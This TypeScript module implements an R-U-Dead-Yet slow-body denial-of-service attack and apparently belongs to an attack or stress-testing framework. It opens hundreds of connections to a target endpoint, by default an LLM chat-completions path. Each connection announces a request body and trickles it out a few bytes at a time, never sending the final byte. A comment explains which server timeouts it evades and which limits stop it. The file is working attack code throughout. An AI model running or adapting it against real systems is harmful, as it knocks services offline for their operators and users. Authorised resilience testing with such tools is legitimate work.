import { z } from 'zod';
import { attackOf } from './attack.ts';
import { openingShape, reopenShape } from './script/opening.ts';
import { requestHead } from './script/request-text.ts';

/**
 * R-U-Dead-Yet: announces a body and sends it piece by piece, but never the last byte. Limits on the gap between two reads, such as
 * nginx's `client_body_timeout`, do not notice it while `intervalMs` is shorter; a deadline for the whole request or a minimum rate does.
 */
export const attack = attackOf({
  kind: 'slow-body',
  summary: 'Announces a body and sends a few bytes of it every interval, never the last one.',
  defaultForMs: 15_000,
  parameters: z.object({
    ...openingShape({ connections: 500, perSecond: 200, path: '/v1/chat/completions' }),
    ...reopenShape,
    intervalMs: z.number().min(10).max(600_000).default(1000).describe('interval between two pieces'),
    contentLength: z.int().min(2).max(1_000_000_000).default(4096).describe('announced bytes'),
    pieceBytes: z.int().min(1).max(65_536).default(8).describe('bytes per piece'),
  }),
  script: (parameters, target) => {
    const { intervalMs, contentLength, pieceBytes, path } = parameters;
    const headers = ['Content-Type: application/json', `Content-Length: ${contentLength}`];
    const head = requestHead(target, 'POST', path, headers);
    return {
      opening: parameters,
      step: (_connection, turn) => {
        if (turn === 0) return { write: `${head}\r\n`, intervalMs };
        const left = contentLength - 1 - (turn - 1) * pieceBytes;
        return left > 0 ? { write: 'a'.repeat(Math.min(left, pieceBytes)), intervalMs } : {};
      },
    };
  },
});
